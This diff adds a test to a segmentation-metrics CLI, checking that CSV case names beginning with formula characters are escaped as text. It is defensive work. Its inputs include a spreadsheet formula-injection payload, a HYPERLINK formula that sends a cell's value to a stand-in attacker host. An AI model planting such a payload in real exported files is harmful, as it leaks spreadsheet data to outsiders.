@@ -59,6 +59,26 @@ def test_csv_rows_then_means(folders):
     assert "label 2: 1 of 2 cases have both masks empty" in result.stderr
 
 
+def test_csv_case_names_a_spreadsheet_would_run_are_text(folders):
+    # a case named by its file: `=HYPERLINK(...).nii.gz` was a formula in Excel and LibreOffice; numbers stay
+    # numbers (a region's name starts with a letter)
+    import csv
+
+    pred_dir, ref_dir = folders
+    names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
+    for name in names:
+        for folder in (pred_dir, ref_dir):
+            (folder / f"{name}.nii.gz").write_bytes((folder / "a.nii.gz").read_bytes())
+    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert {row["case"] for row in rows} == {"a", "b", "mean", *("'" + name for name in names)}
+    assert {row["label"] for row in rows} == {"1", "2"}
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "@")]
+    frame = pd.read_csv(io.StringIO(result.stdout))
+    assert all(frame[metric].dtype == float for metric in METRIC_NAMES)
+
+
 def test_json_records_settings_and_labels_option(folders, tmp_path):
     pred_dir, ref_dir = folders
     out = tmp_path / "scores" / "metrics.json"
